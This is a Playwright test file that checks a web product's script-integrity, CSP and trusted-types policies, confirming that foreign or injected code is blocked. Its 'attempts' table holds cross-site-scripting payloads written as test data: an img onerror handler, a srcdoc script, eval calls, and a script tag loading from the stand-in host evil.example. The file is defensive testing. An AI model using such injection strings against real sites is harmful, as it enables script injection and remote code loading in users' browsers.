import type { Page, Request } from '@playwright/test'
import type { Registry } from '@pundi/contract/federation'
import { expect, test } from '../../browser/test'
import { tokenOf } from '../../product/call-api'

/*
 * Tests that only published scripts run: each script must come from a build's folder and have an
 * integrity hash, and no string may become HTML or code. This file tests that foreign scripts are
 * blocked. All other tests fail if our own scripts break the policies.
 */

const visitorsPages = ['/', '/sign-in', '/sign-up', '/request-password-reset']

test('the pages of a visitor load each script once, under the policies', async ({ page }) => {
  for (const path of visitorsPages) expect(await twiceAskedBy(page, path)).toEqual([])
})

test('so do all pages of the user area and the admin area', { tag: '@slow' }, async ({ openAs, product }) => {
  const { remotes } = (await (await fetch(`${product.url}/registry.json`)).json()) as Registry
  const paths = [remotes.user, remotes.admin].flatMap(remote => remote!.current.pages.map(({ path }) => path))
  expect(paths.length).toBeGreaterThan(10)
  const page = await openAs(await tokenOf(product.url, product.accounts.admin))
  test.setTimeout(180_000)
  for (const path of paths) expect(await twiceAskedBy(page, path)).toEqual([])
})

async function twiceAskedBy(page: Page, path: string) {
  const asked: string[] = []
  const note = (request: Request) => {
    if (request.resourceType() === 'script') asked.push(request.url())
  }
  page.on('request', note)
  const answer = await page.goto(path)
  expect([path, answer?.status()]).toEqual([path, 200])
  expect(answer?.headers()['integrity-policy']).toBe('blocked-destinations=(script)')
  await expect(page.getByRole('heading').first()).toBeVisible()
  await page.waitForLoadState('networkidle')
  page.off('request', note)
  expect([path, asked.length > 0]).toEqual([path, path !== '/'])
  return asked.filter((url, index) => asked.indexOf(url) < index)
}

const attempts: Record<string, { code: string; result: string }> = {
  'text as HTML': {
    code: `document.body.innerHTML = '<img src=x onerror=stolen()>'`,
    result: 'TypeError',
  },
  'text as HTML of a frame': {
    code: `document.createElement('iframe').srcdoc = '<script>parent.stolen()</script>'`,
    result: 'TypeError',
  },
  'a script from elsewhere': {
    code: `document.createElement('script').src = 'https://evil.example/x.js'`,
    result: 'TypeError',
  },
  'what a user uploaded or exported as a script': {
    code: `document.createElement('script').src = '/api/account/export'`,
    result: 'TypeError',
  },
  'text as a script': {
    code: `document.createElement('script').textContent = 'stolen()'`,
    result: 'TypeError',
  },
  'text as code': { code: `eval('stolen()')`, result: 'EvalError' },
  'text as a function': { code: `new Function('stolen()')`, result: 'EvalError' },
  'a policy of one’s own': {
    code: `trustedTypes.createPolicy('mine', { createHTML: text => text })`,
    result: 'TypeError',
  },
  'the policy once more': {
    code: `trustedTypes.createPolicy('default', { createHTML: text => text })`,
    result: 'TypeError',
  },
}

test('nothing that is text becomes HTML or code', async ({ openTab, expectNoise }) => {
  expectNoise(/^policy: (require-trusted-types-for|trusted-types|script-src) /, /^console: .*(Trusted|eval)/)
  const page = await openTab()
  for (const path of ['/', '/sign-in']) {
    await page.goto(path)
    for (const [what, { code, result }] of Object.entries(attempts))
      if (path !== '/' || what !== 'the policy once more')
        expect([what, await tryIn(page, code)]).toEqual([what, result])
  }
})

test('a published file runs by its hash alone', async ({ openTab, expectNoise }) => {
  expectNoise(/integrity/i)
  const page = await openTab()
  await page.goto('/sign-in')
  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible()
  const load = (attributes: { integrity?: string; crossOrigin?: string }) =>
    page.evaluate(given => {
      const { src, integrity } = document.querySelector<HTMLScriptElement>('script[src$="/shell.js"]')!
      const script = document.createElement('script')
      Object.assign(script, {
        ...given,
        ...(given.integrity === 'known' && { integrity }),
        src: `${src}?more`,
      })
      const ended = new Promise(resolve => {
        for (const end of ['load', 'error']) script.addEventListener(end, () => resolve(end))
      })
      document.head.append(script)
      return ended
    }, attributes)
  expect(await load({})).toBe('error')
  expect(await load({ crossOrigin: 'anonymous' })).toBe('error')
  expect(await load({ integrity: 'known' })).toBe('error')
  expect(await load({ integrity: 'known', crossOrigin: 'anonymous' })).toBe('load')
})

/**
 * Runs code in the page and returns the name of the thrown error. The code runs in a timer, because
 * the policy does not apply to code that the debugger evaluates.
 */
const tryIn = (page: Page, code: string) =>
  page.evaluate(
    `new Promise(end => setTimeout(() => { try { ${code}; end('nothing') } catch (error) { end(error.name) } }))`,
  )
